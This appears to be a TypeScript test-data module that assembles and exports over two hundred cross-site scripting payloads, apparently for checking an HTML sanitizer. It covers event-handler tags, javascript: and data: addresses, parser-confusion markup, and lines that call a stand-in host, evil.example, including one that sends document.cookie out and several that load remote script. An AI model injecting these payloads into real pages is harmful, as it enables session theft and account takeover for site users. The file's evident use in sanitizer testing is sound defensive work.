/*
 * Ways in which markup has made browsers run something: event handlers on every kind of element,
 * script addresses, drawings and formulas that change the parser's mode, broken quoting.
 */

const calls = [
  'xss(1)',
  'alert(document.domain)',
  'fetch("https://evil.example/"+document.cookie)',
];

const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'keygen autofocus',
  'math',
  'form',
  'button',
  'a href=#',
  'table',
  'style',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'];

const addresses = [
  'javascript:xss(1)',
  'JaVaScRiPt:xss(1)',
  'java\tscript:xss(1)',
  '&#106;avascript:xss(1)',
  ' javascript:xss(1)',
  'data:text/html,<script>xss(1)</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=',
  'vbscript:xss(1)',
  'view-source:javascript:xss(1)',
  'file:///etc/passwd',
];
const carriers = [
  '<a href="$">x</a>',
  '<iframe src="$"></iframe>',
  '<form action="$"><button>x</button></form>',
  '<object data="$"></object>',
  '<embed src="$">',
];

const whole = [
  '<script>xss(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src=data:,xss(1)></script>',
  '<scr<script>ipt>xss(1)</scr</script>ipt>',
  '<<script>xss(1)//<</script>',
  '<meta http-equiv="refresh" content="0;url=javascript:xss(1)">',
  '<base href="javascript:xss(1)//">',
  '<link rel=stylesheet href="javascript:xss(1)">',
  '<link rel=import href="data:text/html,<script>xss(1)</script>">',
  '<style>@import "javascript:xss(1)";</style>',
  '<style>*{background:url("javascript:xss(1)")}</style>',
  '<div style="background:url(javascript:xss(1))">x</div>',
  '<div style="width:expression(xss(1))">x</div>',
  '<svg><script>xss(1)</script></svg>',
  '<svg><animate onbegin=xss(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xss(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=xss(1)>"></use></svg>',
  '<svg><foreignObject><iframe src="javascript:xss(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:xss(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(1)>',
  '<noscript><p title="</noscript><img src=x onerror=xss(1)>">',
  '<template><script>xss(1)</script></template>',
  '<iframe srcdoc="<script>xss(1)</script>"></iframe>',
  '<isindex type=image src=1 onerror=xss(1)>',
  '<xml><i><b><script>xss(1)</script></b></i></xml>',
  '<![CDATA[<script>xss(1)</script>]]>',
  '<!--><img src=x onerror=xss(1)>-->',
  '<!--[if gte IE 4]><script>xss(1)</script><![endif]-->',
  '<?xml-stylesheet href="javascript:xss(1)"?>',
  '<title><img src=x onerror=xss(1)></title>',
  '<textarea><img src=x onerror=xss(1)></textarea>',
  '<xmp><img src=x onerror=xss(1)></xmp>',
  '<plaintext><img src=x onerror=xss(1)>',
  '<listing>&lt;img src=x onerror=xss(1)&gt;</listing>',
  '&lt;script&gt;xss(1)&lt;/script&gt;',
  '<a href="x" onclick="xss(1)" ping="https://evil.example">x</a>',
  '<img srcset="https://evil.example/x 1x">',
  '<video poster="javascript:xss(1)"></video>',
  '<button formaction="javascript:xss(1)">x</button>',
  '<script type="module">import "https://evil.example/x.js"</script>',
  '<script type="application/ld+json">{"@type":"NewsArticle","headline":{"toString":"x"},"url":"javascript:xss(1)"}</script>',
  '<script type="application/ld+json">{"__proto__":{"headline":"x"}}</script>',
  '<custom-element onconnected=xss(1)>x</custom-element>',
  '<p is="x-p" onclick=xss(1)>x</p>',
];

/** At least 200 different pieces of hostile markup. */
export const payloads: readonly string[] = [
  ...elements.flatMap((element, index) =>
    handlers.map(
      (handler, at) => `<${element} ${handler}=${calls[(index + at) % calls.length] ?? ''}>`,
    ),
  ),
  ...carriers.flatMap((carrier) => addresses.map((address) => carrier.replace('$', address))),
  ...addresses.slice(0, 5).map((address) => `<img src="${address}" lowsrc="${address}">`),
  ...whole,
];
